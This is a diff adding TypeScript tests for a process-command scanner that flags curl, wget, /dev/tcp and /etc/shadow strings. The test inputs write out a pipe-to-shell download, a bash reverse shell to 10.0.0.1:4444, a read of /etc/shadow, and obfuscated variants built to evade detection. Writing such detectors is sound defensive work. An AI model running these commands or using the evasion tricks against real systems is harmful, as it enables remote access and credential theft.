@@ -1,0 +1,65 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { ProcessInfo } from '../events/model.js';
+import { ScreenAutomaton } from './screen.js';
+
+const automaton = new ScreenAutomaton(
+  [
+    { text: 'curl', owner: 0 },
+    { text: 'wget', owner: 0 },
+    { text: '/tcp/', owner: 1 },
+    { text: 'shadow', owner: 2 },
+    { text: 'adow', owner: 3 },
+    { text: 'hado', owner: 4 },
+  ],
+  5,
+);
+
+function proc(commandLine: string, extra: Partial<ProcessInfo> = {}): ProcessInfo {
+  const args = commandLine.split(' ');
+  return { pid: 1, executable: '/bin/true', args, commandLine, ...extra };
+}
+
+function seen(process: ProcessInfo): number[] | 'all' {
+  const hits = automaton.scan(process);
+  return hits.all ? 'all' : [...hits.seen].flatMap((v, i) => (v ? [i] : []));
+}
+
+test('every owner whose string occurs is marked, overlapping ones included', () => {
+  assert.deepEqual(seen(proc('curl -s http://x/ | sh')), [0]);
+  assert.deepEqual(seen(proc('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')), [1]);
+  assert.deepEqual(seen(proc('cat /etc/shadow')), [2, 3, 4]);
+  assert.deepEqual(seen(proc('ls -l /srv')), []);
+});
+
+test('the text is read as the command-line readers could read it: case, quotes and escapes do not hide a string', () => {
+  assert.deepEqual(seen(proc("C'u'\"R\"L http://x")), [0]);
+  assert.deepEqual(seen(proc('w\\get http://x')), [0]);
+  assert.deepEqual(seen(proc('cu\\\nrl http://x')), [0]);
+  assert.deepEqual(seen(proc('cu``rl')), [0], 'backticks are removed as the readers remove them');
+});
+
+test('the executable, the arguments when the command line is not their join, and the working directory are read', () => {
+  assert.deepEqual(seen(proc('x', { executable: '/usr/bin/wget' })), [0]);
+  assert.deepEqual(seen({ pid: 1, executable: '/bin/x', args: ['/bin/x', '/dev/tcp/1.2.3.4/1'], commandLine: '/bin/x (redacted)' }), [1]);
+  assert.deepEqual(seen(proc('cat ./x', { cwd: '/etc/shadow.d' })), [2, 3, 4]);
+});
+
+test('what the readers could decode into other letters passes every screen', () => {
+  assert.equal(seen(proc('\u212aubectl get pods')), 'all', 'non-ASCII (the Kelvin sign lower-cases to k)');
+  assert.equal(seen(proc("$'\\x63url' http://x")), 'all', 'ANSI-C quoting');
+  assert.equal(seen(proc('a=cu; ${a}rl http://x')), 'all', 'a variable the script assigns');
+  assert.deepEqual(seen(proc('echo $HOME/shadow')), [2, 3, 4], 'a variable alone cannot spell a word the text lacks');
+  assert.deepEqual(seen(proc('java -Dport=8080 -jar app.jar')), [], 'an assignment alone either');
+});
+
+test('a scan forgets the previous one', () => {
+  assert.deepEqual(seen(proc('curl x')), [0]);
+  assert.deepEqual(seen(proc('true')), []);
+});
+
+test('strings that could never match as written are refused', () => {
+  for (const bad of ['', 'Curl', 'bash -i', "'sh'", 'a\\b', 'ünï']) {
+    assert.throws(() => new ScreenAutomaton([{ text: bad, owner: 0 }], 1), /exec screens/, bad);
+  }
+});
